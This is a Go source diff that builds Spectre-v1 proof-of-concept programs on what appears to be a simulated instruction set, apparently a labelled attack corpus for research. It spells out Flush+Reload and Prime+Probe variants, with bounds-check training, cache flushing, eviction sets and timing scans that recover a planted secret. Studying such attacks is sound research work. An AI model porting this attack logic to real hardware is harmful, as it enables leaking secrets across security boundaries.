@@ -1,0 +1,344 @@
+package attacks
+
+import "repro/internal/isa"
+
+// Spectre PoC geometry: a 16-line probe array indexed by the leaked
+// byte's low 4 bits, and an 8-element bounds-checked array with the
+// "secret" planted immediately past its end.
+const (
+	spectreProbeLines = 16
+	spectreArrayLen   = 8
+	// Fixed addresses so the Prime+Probe recovery variant can build
+	// congruent eviction sets for the probe region and the size
+	// variable.
+	// spectreProbeBase places probe line k in LLC set
+	// MonitoredSetOffset+k, away from the program's own code and data
+	// sets.
+	spectreProbeBase uint64 = 0x6000_0000 + MonitoredSetOffset*LineSize
+	spectreEvictBase uint64 = 0x6800_0000
+	// spectreSizeBase maps to LLC set 200, clear of the probe sets and
+	// the code/data sets, so evicting the size variable does not pollute
+	// probe measurements.
+	spectreSizeBase uint64 = 0x7000_0000 + 200*LineSize
+)
+
+// spectreData allocates the common Spectre data segments and returns the
+// (arr, probe, size) addresses. The secret byte planted past the array
+// is p.Secret % spectreProbeLines.
+func spectreData(b *isa.Builder, p Params) (arr, probe, size uint64) {
+	secret := byte(p.Secret % spectreProbeLines)
+	// arr||secret: 8 in-bounds words of zero, then the secret word.
+	init := make([]byte, (spectreArrayLen+1)*8)
+	init[spectreArrayLen*8] = secret
+	arr = b.DataInit("arrsec", uint64(len(init)), init, false)
+	probe = b.DataAt("probe", spectreProbeBase, spectreProbeLines*LineSize, nil, false)
+	sizeInit := make([]byte, 8)
+	sizeInit[0] = spectreArrayLen
+	size = b.DataAt("size", spectreSizeBase, 8, sizeInit, false)
+	return arr, probe, size
+}
+
+// emitGadget emits the Spectre-v1 gadget
+//
+//	if (x < size) y = probe[(arr[x] & 15) * 64]
+//
+// with x in R1. The size load comes from memory so that, when the size
+// line has been flushed or evicted, the bounds check resolves slowly and
+// the mispredicted fallthrough runs transiently.
+func emitGadget(b *isa.Builder, prefix string, arr, probe, size uint64) {
+	b.BeginAttack().
+		Mov(isa.R(isa.R2), isa.Mem(isa.RegNone, int64(size))).
+		Cmp(isa.R(isa.R1), isa.R(isa.R2)).
+		Jae(prefix+"_skip").
+		Mov(isa.R(isa.R3), isa.MemIdx(isa.RegNone, isa.R1, 8, int64(arr))).
+		And(isa.R(isa.R3), isa.Imm(spectreProbeLines-1)).
+		Shl(isa.R(isa.R3), isa.Imm(6)).
+		Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))).
+		EndAttack().
+		Label(prefix + "_skip")
+}
+
+// emitProbeFlush emits a flush sweep over the probe array and the size
+// variable (the Flush+Reload-style Spectre preparation).
+func emitProbeFlush(b *isa.Builder, prefix string, probe, size uint64) {
+	b.BeginAttack().
+		Mov(isa.R(isa.R5), isa.Imm(0)).
+		Label(prefix+"_fl").
+		Mov(isa.R(isa.R6), isa.R(isa.R5)).
+		Shl(isa.R(isa.R6), isa.Imm(6)).
+		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
+		Clflush(isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
+		Jl(prefix + "_fl").
+		Clflush(isa.Mem(isa.RegNone, int64(size))).
+		EndAttack()
+}
+
+// emitReloadScan emits the Flush+Reload recovery loop: time-reload every
+// probe line and accumulate hits below the threshold into hist.
+func emitReloadScan(b *isa.Builder, prefix string, probe, hist uint64, threshold int64) {
+	b.Mov(isa.R(isa.R5), isa.Imm(0))
+	b.BeginAttack().
+		Label(prefix+"_rl").
+		Mov(isa.R(isa.R6), isa.R(isa.R5)).
+		Shl(isa.R(isa.R6), isa.Imm(6)).
+		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
+		Rdtscp(isa.R7).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
+		Rdtscp(isa.R8).
+		Sub(isa.R(isa.R8), isa.R(isa.R7)).
+		Cmp(isa.R(isa.R8), isa.Imm(threshold)).
+		Jae(prefix+"_slow").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(hist))).
+		Mov(isa.R(isa.R9), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R9)).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R9)).
+		Label(prefix+"_slow").
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
+		Jl(prefix + "_rl").
+		EndAttack()
+}
+
+// SpectreFRIdea is the canonical Spectre-v1 + Flush+Reload PoC: an
+// inline training loop conditions the bounds check, the probe array and
+// size are flushed, one out-of-bounds call leaks transiently, and a
+// reload scan recovers the byte. Repeated for p.Rounds rounds.
+func SpectreFRIdea(p Params) PoC {
+	p = p.withDefaults()
+	b := isa.NewBuilder("S-FR-Idea", AttackerCodeBase)
+	arr, probe, size := spectreData(b, p)
+	scratch := b.Bytes("scratch", 256, false)
+	hist := b.Bytes("hist", spectreProbeLines*8, false)
+
+	emitSetupNoise(b, scratch, 12, "setup", 1)
+
+	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+
+	// spectre.c-style mixing loop: nine in-bounds shots train the bounds
+	// check at the gadget's own PC, the tenth goes out of bounds. The
+	// probe array is flushed right before the out-of-bounds shot so the
+	// training iterations' architectural probe accesses do not survive
+	// into the reload scan.
+	b.Mov(isa.R(isa.R10), isa.Imm(0)).
+		Label("train").
+		Mov(isa.R(isa.R1), isa.R(isa.R10)).
+		Cmp(isa.R(isa.R10), isa.Imm(9)).
+		Jl("inbounds")
+	emitProbeFlush(b, "prep", probe, size)
+	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen)).
+		Jmp("shoot").
+		Label("inbounds").
+		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1)).
+		Label("shoot")
+	emitGadget(b, "g", arr, probe, size)
+	b.Inc(isa.R(isa.R10)).
+		Cmp(isa.R(isa.R10), isa.Imm(10)).
+		Jl("train")
+
+	emitReloadScan(b, "scan", probe, hist, p.Threshold)
+
+	b.Dec(isa.R(isa.R11)).
+		Jne("round")
+	emitResultScan(b, hist, spectreProbeLines, "post", 2)
+	b.Hlt()
+	return PoC{Name: "S-FR-Idea", Family: FamilySFR, Program: b.MustBuild()}
+}
+
+// SpectreFRGood is the function-based Spectre-v1 + Flush+Reload variant:
+// the gadget lives in a subroutine called both for training and for the
+// out-of-bounds access, mirroring the structure of the widely-circulated
+// "spectre.c" PoC.
+func SpectreFRGood(p Params) PoC {
+	p = p.withDefaults()
+	b := isa.NewBuilder("S-FR-Good", AttackerCodeBase)
+	arr, probe, size := spectreData(b, p)
+	scratch := b.Bytes("scratch", 320, false)
+	hist := b.Bytes("hist", spectreProbeLines*8, false)
+
+	b.Entry("main")
+
+	// victim_function(R1 = x)
+	b.Label("victim_function")
+	emitGadget(b, "vf", arr, probe, size)
+	b.Ret()
+
+	b.Label("main")
+	emitSetupNoise(b, scratch, 20, "setup", 0)
+
+	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+
+	// Training schedule: x = i & 7 for i in 0..9.
+	b.Mov(isa.R(isa.R10), isa.Imm(0)).
+		Label("train").
+		Mov(isa.R(isa.R1), isa.R(isa.R10)).
+		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1)).
+		Call("victim_function").
+		Inc(isa.R(isa.R10)).
+		Cmp(isa.R(isa.R10), isa.Imm(10)).
+		Jl("train")
+
+	emitProbeFlush(b, "prep", probe, size)
+
+	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen)).
+		Call("victim_function")
+
+	emitReloadScan(b, "scan", probe, hist, p.Threshold)
+
+	b.Dec(isa.R(isa.R11)).
+		Jne("round")
+	emitResultScan(b, hist, spectreProbeLines, "post", 1)
+	b.Hlt()
+	return PoC{Name: "S-FR-Good", Family: FamilySFR, Program: b.MustBuild()}
+}
+
+// SpectreFRMin is the minimal Spectre-v1 + Flush+Reload variant: an
+// unrolled training sequence, a single flush pass and a single
+// out-of-bounds shot per round, with no subroutines and no setup noise —
+// the smallest program in the corpus that still leaks.
+func SpectreFRMin(p Params) PoC {
+	p = p.withDefaults()
+	b := isa.NewBuilder("S-FR-Min", AttackerCodeBase)
+	arr, probe, size := spectreData(b, p)
+	hist := b.Bytes("hist", spectreProbeLines*8, false)
+
+	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+
+	// Unrolled training: five in-bounds shots, each through its own copy
+	// of the gadget; the final out-of-bounds shot reuses the last copy's
+	// predictor state only through the shared global history (per-PC
+	// counters make the unrolled copies independent, so the OOB gadget
+	// below is trained by running the loop body at its own PC too).
+	for i := 0; i < 5; i++ {
+		b.Mov(isa.R(isa.R1), isa.Imm(int64(i%spectreArrayLen)))
+		emitGadget(b, "g"+string(rune('0'+i)), arr, probe, size)
+	}
+
+	emitProbeFlush(b, "prep", probe, size)
+
+	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen))
+	emitGadget(b, "oob", arr, probe, size)
+
+	emitReloadScan(b, "scan", probe, hist, p.Threshold)
+
+	b.Dec(isa.R(isa.R11)).
+		Jne("round")
+	b.Hlt()
+	return PoC{Name: "S-FR-Min", Family: FamilySFR, Program: b.MustBuild()}
+}
+
+// SpectrePPTrippel is the Spectre-v1 + Prime+Probe PoC (after Trippel et
+// al.): no CLFLUSH anywhere — the size variable is displaced with an
+// eviction set, the probe-array sets are primed with the attacker's own
+// lines, and after the transient access every probe set is timed; the
+// set slowed down by the transient fill names the secret.
+func SpectrePPTrippel(p Params) PoC {
+	p = p.withDefaults()
+	ppThreshold := int64(ppProbeThresholdSolo)
+
+	b := isa.NewBuilder("S-PP-Trippel", AttackerCodeBase)
+	arr, probe, size := spectreData(b, p)
+	evBytes := uint64(spectreProbeLines)*LineSize + uint64(LLCWays+1)*EvictionStride
+	b.DataAt("evbuf", spectreEvictBase, evBytes, nil, false)
+	scratch := b.Bytes("scratch", 256, false)
+	hist := b.Bytes("hist", spectreProbeLines*8, false)
+
+	emitSetupNoise(b, scratch, 12, "setup", 2)
+
+	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+
+	// Train the bounds check.
+	b.Mov(isa.R(isa.R10), isa.Imm(0)).
+		Label("train").
+		Mov(isa.R(isa.R1), isa.R(isa.R10)).
+		And(isa.R(isa.R1), isa.Imm(spectreArrayLen-1))
+	emitGadget(b, "g", arr, probe, size)
+	b.Inc(isa.R(isa.R10)).
+		Cmp(isa.R(isa.R10), isa.Imm(8)).
+		Jl("train")
+
+	// Prime every probe set with our own congruent lines.
+	b.BeginAttack().
+		Mov(isa.R(isa.R5), isa.Imm(0)).
+		Label("prime_set").
+		Mov(isa.R(isa.R6), isa.Imm(0)).
+		Label("prime_way").
+		Mov(isa.R(isa.R7), isa.R(isa.R6)).
+		And(isa.R(isa.R7), isa.Imm(LLCWays-1)). // mask the transient extra iteration
+		Mul(isa.R(isa.R7), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R8), isa.R(isa.R5)).
+		Add(isa.R(isa.R8), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R8), isa.Imm(6)).
+		Add(isa.R(isa.R7), isa.R(isa.R8)).
+		Add(isa.R(isa.R7), isa.Imm(int64(spectreEvictBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R7, 0)).
+		Inc(isa.R(isa.R6)).
+		Cmp(isa.R(isa.R6), isa.Imm(int64(LLCWays))).
+		Jl("prime_way").
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
+		Jl("prime_set").
+		EndAttack()
+
+	// Evict the size variable through its own eviction set (stride keeps
+	// the set index, large tags displace it).
+	b.BeginAttack().
+		Mov(isa.R(isa.R5), isa.Imm(1)).
+		Label("evsize").
+		Mov(isa.R(isa.R6), isa.R(isa.R5)).
+		Mul(isa.R(isa.R6), isa.Imm(int64(EvictionStride))).
+		Add(isa.R(isa.R6), isa.Imm(int64(size))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(int64(LLCWays+2))).
+		Jl("evsize").
+		EndAttack()
+
+	// Out-of-bounds transient shot.
+	b.Mov(isa.R(isa.R1), isa.Imm(spectreArrayLen))
+	emitGadget(b, "oob", arr, probe, size)
+
+	// Probe every set: a set that lost a primed way is slow.
+	b.BeginAttack().
+		Mov(isa.R(isa.R5), isa.Imm(0)).
+		Label("probe_set").
+		Rdtscp(isa.R9).
+		Mov(isa.R(isa.R6), isa.Imm(0)).
+		Label("probe_way").
+		Mov(isa.R(isa.R7), isa.R(isa.R6)).
+		And(isa.R(isa.R7), isa.Imm(LLCWays-1)). // mask the transient extra iteration
+		Mul(isa.R(isa.R7), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R8), isa.R(isa.R5)).
+		Add(isa.R(isa.R8), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R8), isa.Imm(6)).
+		Add(isa.R(isa.R7), isa.R(isa.R8)).
+		Add(isa.R(isa.R7), isa.Imm(int64(spectreEvictBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R7, 0)).
+		Inc(isa.R(isa.R6)).
+		Cmp(isa.R(isa.R6), isa.Imm(int64(LLCWays))).
+		Jl("probe_way").
+		Rdtscp(isa.R10).
+		Sub(isa.R(isa.R10), isa.R(isa.R9)).
+		Cmp(isa.R(isa.R10), isa.Imm(ppThreshold)).
+		Jb("fastset").
+		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(hist))).
+		Mov(isa.R(isa.R12), isa.Mem(isa.R7, 0)).
+		Inc(isa.R(isa.R12)).
+		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R12)).
+		Label("fastset").
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
+		Jl("probe_set").
+		EndAttack()
+
+	b.Dec(isa.R(isa.R11)).
+		Jne("round")
+	emitResultScan(b, hist, spectreProbeLines, "post", 1)
+	b.Hlt()
+	return PoC{Name: "S-PP-Trippel", Family: FamilySPP, Program: b.MustBuild()}
+}
